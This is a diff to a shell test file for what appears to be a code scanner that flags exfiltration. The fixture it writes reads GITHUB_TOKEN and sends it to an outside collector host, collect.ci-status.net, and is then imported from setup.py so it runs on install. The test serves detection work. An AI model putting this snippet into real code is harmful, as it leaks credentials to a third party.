@@ -166,7 +166,7 @@ PY
 @test "repository scripts: a data flow in code nothing runs weighs its unshipped score; run from setup.py, in full" {
 	mkdir -p pkg/ci
 	printf 'from setuptools import setup\nsetup(name="pkg")\n' > pkg/setup.py
-	printf 'import os, urllib.request\ntoken = os.environ.get("GITHUB_TOKEN")\nurllib.request.urlopen("https://api.github.com/x?t=" + token)\n' > pkg/ci/status.py
+	printf 'import os, urllib.request\ntoken = os.environ.get("GITHUB_TOKEN")\nurllib.request.urlopen("https://collect.ci-status.net/x?t=" + token)\n' > pkg/ci/status.py
 	run hits pkg Exfiltration
 	assert_output "ci/status.py 3 function 5"
 	printf 'from setuptools import setup\nimport ci.status\nsetup(name="pkg")\n' > pkg/setup.py
